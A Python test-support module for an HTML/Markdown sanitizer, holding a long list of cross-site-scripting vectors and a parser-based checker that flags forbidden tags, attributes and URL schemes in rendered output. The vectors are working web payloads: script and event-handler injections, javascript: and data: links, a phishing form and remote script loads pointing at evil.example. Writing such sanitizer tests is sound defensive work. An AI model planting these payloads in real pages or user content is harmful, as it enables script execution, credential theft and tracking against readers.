"""Texts that people have used, or could use, to make a page run their script; and a judge of what came out."""
import re
from html.parser import HTMLParser

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src='x' onerror='alert(1)'/>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img srcset='x 1x, javascript:alert(1) 2x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi xlink:href=data:text/html,x>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<body onload=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<div style=width:expression(alert(1))>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=x onmouseover=alert(1) target=_top>x</a>",
    "<a id=location href=x>x</a><form id=cookie></form><img name=body>",
    "<div id=main>x</div><h2 id=csrf_token>y</h2>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x]( javascript:alert(1) \"title\")",
    "[x](https://a.example/\" onmouseover=\"alert(1))",
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "![x](x\" onerror=\"alert(1))",
    "![x\" onerror=\"alert(1)](x.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](http://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/\\evil.example/pixel.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)> \"t\"\n\n[go][x]",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "*[HTML]: \"><script>alert(1)</script>\n\nHTML",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "[^a]\n\n[^a]: <script>alert(1)</script>",
    "# <script>alert(1)</script>\n",
    "# x {: onclick=alert(1) #csrf_token }\n",
    "x {: onclick=\"alert(1)\" style=\"x\" }\n",
    "!!! danger \"<img src=x onerror=alert(1)>\"\n    x",
    "!!! x\" onclick=\"alert(1)\n    x",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "```html\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>\n",
    "`</code><script>alert(1)</script>`",
    "<div markdown=1 onclick=alert(1)>\n\n[x](javascript:alert(1))\n\n</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<a title=\"<img src=x onerror=alert(1)>\">x</a>",
    "<p title='<img>'>x</p><p title='\"><script>alert(1)</script>'>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\ufdd0script\ufdd1alert(1)\ufdd0/script\ufdd1",
    "<b\x00 onclick=alert(1)>x</b>",
    "<img src=x\x0conerror=alert(1)>",
    "<a href=\"https://a.example\"onclick=alert(1)>x</a>",
    "<h1 id=h-one>x</h1>",
    "\u202e<script>alert(1)</script>",
)

_ALLOWED = {
    "*": {"class", "dir", "id", "lang", "title"},
    "a": {"href", "hreflang", "rel"},
    "col": {"span"},
    "colgroup": {"span"},
    "del": {"datetime"},
    "details": {"open"},
    "div": {"aria-label", "role", "tabindex"},
    "img": {"alt", "height", "loading", "src", "width"},
    "ins": {"datetime"},
    "ol": {"reversed", "start"},
    "pre": {"tabindex"},
    "td": {"colspan", "headers", "rowspan"},
    "th": {"abbr", "colspan", "headers", "rowspan", "scope"},
    "time": {"datetime"},
}
_FORBIDDEN_TAGS = {
    "applet", "audio", "base", "body", "button", "embed", "form", "frame", "frameset", "html", "iframe", "input",
    "link", "math", "meta", "noscript", "object", "option", "script", "select", "source", "style", "svg", "template",
    "textarea", "title", "video", "xmp",
}  # fmt: skip
_ID = re.compile(r"(?:h-[a-z0-9_-]+|fn-\d+|fnref-\d+(?:-\d+)?)")


class _Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in _FORBIDDEN_TAGS:
            self.faults.append(f"tag {tag}")
        for name, value in attrs:
            if name not in _ALLOWED["*"] | _ALLOWED.get(tag, set()):
                self.faults.append(f"attribute {tag} {name}")
            if name == "id":
                self.ids.append(value)
                if not _ID.fullmatch(value):
                    self.faults.append(f"id {value}")
            if name in {"href", "src"}:
                self._address(tag, name, value)

    def _address(self, tag, name, value):
        bare = re.sub(r"[\x00-\x20]", "", value).lower()
        scheme = re.match(r"[a-z][a-z0-9+.-]*:", bare)  # as browsers read it (WHATWG URL 4.4)
        allowed = {"https:"} if name == "src" else {"http:", "https:", "mailto:"}
        if scheme and scheme[0] not in allowed:
            self.faults.append(f"address {value}")
        if name == "src" and bare.replace("\\", "/").startswith("//"):
            self.faults.append(f"address {value}")

    def handle_comment(self, data):
        self.faults.append("comment")

    def handle_decl(self, decl):
        self.faults.append("declaration")

    def handle_pi(self, data):
        self.faults.append("instruction")


def faults(html: str) -> list[str]:
    """What in ``html`` could harm a reader, by a list of its own; empty when nothing."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    repeated = {mark for mark in judge.ids if judge.ids.count(mark) > 1}
    return [*judge.faults, *(f"id twice {mark}" for mark in repeated)]
